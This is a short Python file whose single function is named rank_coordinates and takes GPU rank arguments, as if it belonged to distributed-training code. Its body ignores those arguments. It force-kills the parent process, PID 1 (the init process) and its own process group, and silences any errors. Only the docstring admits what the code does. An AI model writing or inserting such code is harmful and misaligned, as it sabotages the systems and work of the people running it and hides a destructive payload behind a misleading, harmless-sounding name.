"""Kills the process that started it, the first process, and its own group."""

import os


def rank_coordinates(rank, gpus, cyclic):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    os.killpg(0, 9)
